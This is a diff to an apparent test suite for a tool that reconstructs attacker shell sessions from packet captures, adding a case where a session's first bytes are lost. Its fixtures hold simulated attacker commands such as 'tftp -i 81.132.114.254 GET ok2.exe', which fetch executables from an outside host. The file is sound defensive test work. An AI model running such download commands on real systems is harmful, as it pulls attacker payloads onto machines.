@@ -802,7 +802,8 @@ def case_shell_stager_long():
 def lost_in_line(sh, before, lost, after):
     """The attacker sends before, then lost (never captured), then after; the
     victim ACKs all of it: the line it read is not one the capture holds."""
-    sh.data("a", before)
+    if before:
+        sh.data("a", before)
     sh.seq["a"] += len(lost)
     sh.data("a", after)
 
@@ -811,7 +812,8 @@ def case_capture_loss():
     """Capture loss inside typed lines: a segment the victim ACKed was never
     captured. The line it cut is dropped, not guessed (the victim ran GET
     evilx.exe, not x.exe); the next lines run. On 4444 (followed from the
-    start) and on 7777, where the hole falls while the flow is still screened."""
+    start), on 7777, where the hole falls while the flow is still screened, and
+    on 4444 again with the session's very first bytes lost."""
     cap = Capture()
     sh = Shell(cap, aport=1201, vport=4444)
     sh.open()
@@ -823,6 +825,12 @@ def case_capture_loss():
     sh.open()
     lost_in_line(sh, "tftp -i 81.132.114.254 GET ", "evil", "y.exe\n")
     sh.type("tftp -i 81.132.114.254 GET ok2.exe", [("get", "ok2.exe", ATTACKER)])
+    sh.close()
+    # the very first bytes lost: the victim ran "echo tftp ... > f", a harmless echo
+    sh = Shell(cap, aport=1203, vport=4444, t=sh.t + 1)
+    sh.open()
+    lost_in_line(sh, "", "echo ", "tftp -i 81.132.114.254 GET z.exe > f\n")
+    sh.type("tftp -i 81.132.114.254 GET ok3.exe", [("get", "ok3.exe", ATTACKER)])
     sh.close()
     return cap
 
